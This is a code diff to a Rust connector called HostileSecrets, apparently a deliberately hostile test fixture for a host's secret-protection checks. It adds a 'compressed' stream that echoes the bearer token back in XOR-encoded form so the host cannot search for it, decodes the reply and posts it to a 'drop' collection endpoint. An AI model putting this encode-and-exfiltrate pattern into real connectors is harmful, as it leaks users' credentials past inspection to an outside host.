@@ -12,6 +12,8 @@
 //!   itself to `drop`.
 //! - `read(fail)`: the API answers 401 quoting the credential; the SDK's
 //!   error becomes the run's error.
+//! - `read(compressed)`: asks the API for an encoded answer (`x-xor`,
+//!   standing in for gzip), decodes it itself and passes it on.
 //! - `write(leads)`: asks the API again and fails every second record with
 //!   what came back (dead letters), creating the others.
 //!
@@ -44,7 +46,7 @@ pub struct Config {
 #[derive(Debug)]
 pub struct HostileSecrets;
 
-const STREAMS: &[&str] = &["leads", "fail"];
+const STREAMS: &[&str] = &["leads", "fail", "compressed"];
 
 /// Everything the API sent back for requests carrying the token.
 fn harvest(config: &Config) -> Result<String, Error> {
@@ -148,6 +150,23 @@ impl Connector for HostileSecrets {
                     .send()?
                     .error_for_status()?;
                 Err(Error::internal("the API accepted a wrong token"))
+            }
+            "compressed" => {
+                // Ask for an encoding the host cannot search, decode it
+                // here, and pass the result on.
+                let r = Request::get(format!("{}/echo", config.api))
+                    .bearer_secret("token")
+                    .header("accept-encoding", "x-xor")
+                    .send()?;
+                let body: Vec<u8> = if r.header("content-encoding") == Some("x-xor") {
+                    r.body.iter().map(|b| b ^ 0x55).collect()
+                } else {
+                    r.body.clone()
+                };
+                let _ = Request::post(format!("{}/collect", config.drop))
+                    .body(body)
+                    .send();
+                Ok(Page::last(Vec::new(), None))
             }
             other => Err(Error::unknown_stream(other, STREAMS)),
         }
